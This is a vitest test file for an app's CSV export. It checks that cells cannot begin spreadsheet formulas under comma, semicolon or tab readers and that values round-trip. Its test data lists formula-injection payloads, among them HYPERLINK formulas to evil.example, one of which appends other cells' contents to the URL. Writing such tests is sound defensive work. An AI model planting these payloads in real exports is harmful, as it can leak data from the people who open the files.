/**
 * Every CSV the app writes, read back the way spreadsheets read it: split on `,` (an English
 * file's delimiter, quotes honoured), on `;` (a German file's, and German Excel) and on tabs (a
 * text import with Tab ticked). No cell may start a formula under any reader, and every value must
 * come back from the file's own reader — neutralised cells differ only by the apostrophes put in
 * front of formula characters.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { campaignCsv } from '../../src/formats/csv/campaign';
import { CSV_SEPARATOR, csvDocument, csvField, exportPersonsCsv } from '../../src/formats/csv/write';
import { samplePerson } from './sample-data';

const HOSTILE = [
  'x;=HYPERLINK("http://evil.example","klick")',
  '-2+3',
  '+1+cmd',
  '@SUM(A1)',
  '=1+1',
  '\t=1',
  '\r=1',
  'a;b',
  'a,b',
  'Zeile\n=1',
  'Zeile\r\n-2+3',
  'x; =1',
  'x;"=1"',
  'Sagt "ja"',
  '+49 30 1234567',
  'Rueckruf\t=HYPERLINK("https://evil.example/"&E2&F2)',
];
const CLEAN = ['Müller', 'Lindenallee 7', '10115', 'kunde@example.org', ''];

/** Cells of a CSV text (BOM dropped) split on the given delimiter, quotes as papaparse reads them. */
function read(csv: string, delimiter: ',' | ';' | '\t'): string[][] {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  return Papa.parse<string[]>(csv.slice(1), { delimiter, newline: '\r\n', skipEmptyLines: true }).data;
}

/** The value a neutralised cell stands for: the apostrophes before formula characters removed. */
const unneutralise = (cell: string) => cell.replace(/'(?=[=+\-@\t\r])/g, '');

/** Under a semicolon reader, Papaparse splits even inside a quoted cell; so does Excel. */
function cellsStartingFormulas(csv: string): string[] {
  return [...read(csv, ','), ...read(csv, ';'), ...read(csv, '\t')].flat().filter((c) => /^[=+\-@\t\r]/.test(c));
}

describe.each(['de', 'en'] as const)('the shared CSV writer (%s)', (lang) => {
  const csv = csvDocument([HOSTILE, CLEAN], lang);

  it('leaves no cell starting with a formula character, read with commas or semicolons', () => {
    expect(cellsStartingFormulas(csv)).toEqual([]);
    // A line break inside a quoted cell, read by a semicolon reader, starts a new line whose first
    // cell must be harmless too: check the raw text after every CR/LF, `;` and `,`.
    expect(csv.slice(1).match(/(^|[,;\t\r\n])[ "]*[=+\-@\t]/g) ?? []).toEqual([]);
  });

  it('quotes every value holding a semicolon, comma, tab, quote or line break, and no other', () => {
    for (const v of [...HOSTILE, ...CLEAN]) expect(/^".*"$/s.test(csvField(v))).toBe(/[;,\t"\r\n]/.test(v));
  });

  it('separates as the language’s spreadsheets do, and gives back every value through that reader', () => {
    expect(csv.split('\r\n').at(-2)).toBe(CLEAN.join(lang === 'de' ? ';' : ','));
    const [hostile, clean] = read(csv, CSV_SEPARATOR[lang]);
    expect(hostile.map(unneutralise)).toEqual(HOSTILE);
    expect(clean).toEqual(CLEAN);
    expect(hostile[1]).toBe("'-2+3");
    expect(hostile[0]).toBe(`x;'=HYPERLINK("http://evil.example","klick")`);
  });
});

describe('every CSV the app writes', () => {
  const person = samplePerson('Anna;=HYPERLINK("http://evil.example")', '-2+3', {
    organisation: 'Müller; Meier, Söhne',
    position: '@SUM(1)',
    street: 'Lindenallee 7\n=1+1',
    city: '+Berlin',
    note: 'Notiz;\t=1',
    email: 'anna@example.org',
  });

  it.each([
    ['the person export', exportPersonsCsv([person], 'de')],
    [
      'the campaign mail merge',
      campaignCsv('c0ffee00-0000-4000-8000-000000000001', [person], [{ name: '=Werbung;-1' }], 'de'),
    ],
  ])('%s is safe with every reader and keeps the values', (_name, csv) => {
    expect(cellsStartingFormulas(csv)).toEqual([]);
    const [header, row] = read(csv, ';');
    expect(row).toHaveLength(header.length);
    const value = (label: string) => unneutralise(row[header.indexOf(label)]);
    expect(value('Vorname')).toBe(person.firstName);
    expect(value('Name')).toBe(person.lastName);
    expect(value('Straße')).toBe(person.street);
    expect(value('Ort')).toBe(person.city);
    expect(value('E-Mail')).toBe(person.email);
  });
});
